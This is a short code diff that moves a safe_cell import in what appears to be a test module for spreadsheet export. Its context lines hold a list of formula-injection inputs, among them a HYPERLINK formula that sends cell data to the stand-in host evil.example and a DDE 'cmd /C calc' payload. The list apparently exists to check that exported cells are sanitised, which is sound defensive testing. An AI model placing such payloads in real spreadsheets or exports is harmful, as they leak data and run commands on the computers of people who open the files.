@@ -13,8 +13,8 @@ from pathlib import Path
 from console_kit import Console, post
 from openpyxl import load_workbook
 
+from common.cells import safe_cell
 from content.stats_report import COLUMNS, MonthReport, write_csv, write_xlsx
-from hub.cells import safe_cell
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?d="&D2&F2,"点击查看")', "=1+1", "=cmd|' /C calc'!A0",
             "@SUM(1,1)", "+86 136 9876 5432", "-2+3", "\t=1+1", "\r=1+1"]
